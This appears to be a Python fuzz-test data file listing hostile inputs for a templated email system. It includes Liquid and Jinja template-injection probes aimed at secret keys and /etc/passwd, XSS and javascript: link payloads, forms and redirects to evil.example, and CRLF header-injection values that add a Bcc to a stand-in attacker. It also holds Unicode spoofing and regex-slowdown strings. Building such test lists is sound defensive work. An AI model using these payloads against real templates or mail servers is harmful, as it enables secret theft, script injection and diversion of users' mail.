"""What people with bad intentions, and some with none, type where a letter takes words."""

INJECTIONS = [
    # Liquid
    "{{ 7 * 7 }}", "{{ config.SECRET_KEY }}", "{{ client.__class__ }}", "{{ client.first_name.__class__.__mro__ }}", "{{ self }}",
    "{% for x in (1..999999999) %}a{% endfor %}", "{% assign a = 'b' %}", "{% capture a %}b{% endcapture %}", "{% include '/etc/passwd' %}",
    "{% render 'x' %}", "{% tablerow i in (1..9999) %}{% endtablerow %}", "{% cycle 'a', 'b' %}", "{% increment a %}", "{% raw %}{{ x }}",
    "{{ 'a' | append: 'b' }}", "{{ client.first_name | map: 'x' }}", "{{ 'x' | times: 9999999999 }}", "{{ client[client.first_name] }}",
    "{{ (1..99999999) }}", "{{", "{%", "}}", "%}", "{{}}", "{%%}", "{{ client.first_name", "{%- liquid\nassign a = 1 -%}",
    "{{ client.first_name " + "| upcase " * 300 + "}}", "{% if client.first_name %}" * 60, "{{ 'a' | date: '%99999d' }}",
    # Jinja and its kin
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% set x = cycler.__init__.__globals__ %}", "{{ request.application }}",
    "{{ get_flashed_messages.__globals__ }}", "{# comment #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "*{7*7}", "[[${7*7}]]",
    "#set($x=7*7)", "{php}echo 7;{/php}", "<?php echo 7; ?>",
    # Markdown and addresses
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "![x](javascript:alert(1))",
    "[x](vbscript:msgbox)", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n[x]", "[x](//evil.example)", "[x](\\\\evil.example\\a)",
    "[x](&#106;avascript:alert(1))", "[a](https://a.example\"onclick=\"x)", "`code` ```code```", "***" * 60, "> " * 100, "- " * 200,
    "[" * 400, "![" * 200, "<!--", "\\[\\]\\(\\)",
    # HTML
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe srcdoc='x'></iframe>",
    "\"><script>alert(1)</script>", "</title><script>alert(1)</script>", "</td></tr></table><h1>x</h1>", "<style>*{display:none}</style>",
    "<a href=javascript:alert(1)>x</a>", "<base href=//evil.example>", "<form action=//evil.example><input></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<![CDATA[x]]>", "&lt;script&gt;", "&#60;script&#62;",
    "<!--[if mso]><x><![endif]-->", "[[body]]", "[[signature]]", "cid:0123@photo",
    # signs that are not what they seem
    "\u202eоборот\u202c", "a\u200bb\u200db", "\ufeffa", "Ǆ" * 30, "ﷺ" * 30, "a\u0301" * 60, "\u2028a\u2029b", "🏴\u200d☠️" * 20,
    "ſcript", "＜script＞", "\x1b[31mred", "a\tb\x0bc",
    # what makes careless patterns slow
    "a" * 250 + "!", "(" * 250, "a@" * 120, "{{ " + "a." * 120 + "a }}", "_a*b" * 60, "&" * 250, "=?utf-8?q?" * 20, "'\"" * 120,
]
"""For places where words are typed: bodies, subjects, names of clients, of those who sign, and of files."""

HEADERS = [
    "\r\nBcc: evil@evil.example", "\nBcc: evil@evil.example", "\rBcc: evil@evil.example", "\r\n\r\n<html>", "\n\nтело",
    "\r\n Bcc: evil@evil.example", "\r\n\tBcc: evil@evil.example", "\n\r\nBcc: evil@evil.example", "\r\r\nBcc: evil@evil.example",
    "\u2028Bcc: evil@evil.example", "\u2029Bcc: evil@evil.example", "\x85Bcc: evil@evil.example", "\x0bBcc: evil@evil.example",
    "\x0cBcc: evil@evil.example", "\x1bBcc: evil@evil.example", "\x1c\x1d\x1eBcc: evil@evil.example", "\x7fBcc: evil@evil.example",
    "\r\nTo: evil@evil.example", "\r\nCc: evil@evil.example", "\r\nReply-To: evil@evil.example", "\r\nSubject: другое",
    "\r\nContent-Type: text/html", "\r\nContent-Transfer-Encoding: base64", "\r\nMIME-Version: 2.0", "\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "\r\nX-Evil: 1\r\n", "%0d%0aBcc: evil@evil.example", "%0ABcc: evil@evil.example", "=0D=0ABcc: evil@evil.example",
    "\\r\\nBcc: evil@evil.example", "&#13;&#10;Bcc: evil@evil.example", "嘊嘍Bcc: evil@evil.example", "čĊBcc: evil@evil.example",
    "=?utf-8?B?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=", "=?utf-8?Q?=0D=0ABcc:_evil@evil.example?=", "=?utf-7?Q?+AA0-Bcc?=", "=?", "?=", "=?x?=",
    ", evil@evil.example", "; evil@evil.example", "evil@evil.example,", "<evil@evil.example>", ">, <evil@evil.example", "\" <evil@evil.example>",
    "\\\" <evil@evil.example>", "friends: evil@evil.example, b@evil.example;", "(evil@evil.example)", "@evil.example:", "evil@evil.example\\",
    "я" * 300, "a" * 300, "а b " * 120, "😀" * 60, "\u202e@evil.example", "\ufeff<evil@evil.example>", "\x00Bcc: evil@evil.example",
    "\r\n" + "a" * 998, "xn--evil", "evil@еvil.example", "evil@xn--vil-mdd.example", "SIZE=1 BODY=8BITMIME", "ORCPT=rfc822;evil@evil.example",
]
"""For places that become headers: subjects, names, addresses."""
